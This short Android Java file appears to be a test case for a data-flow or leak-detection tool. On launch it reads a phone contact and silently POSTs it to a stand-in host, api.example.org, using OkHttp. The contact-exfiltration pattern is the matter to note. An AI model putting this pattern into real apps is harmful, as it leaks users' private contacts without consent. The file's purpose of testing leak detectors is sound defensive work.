// A POST by OkHttp, executed at once; the library's code is there down to the socket.
package cases.sink_okhttp;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.IOException;
import okhttp3.MediaType;
import okhttp3.OkHttpClient;
import okhttp3.Request;
import okhttp3.RequestBody;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), rows.getString(0));
        Request request = new Request.Builder().url("https://api.example.org/v1/contacts").post(body).build();
        try {
            new OkHttpClient().newCall(request).execute();
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }
}
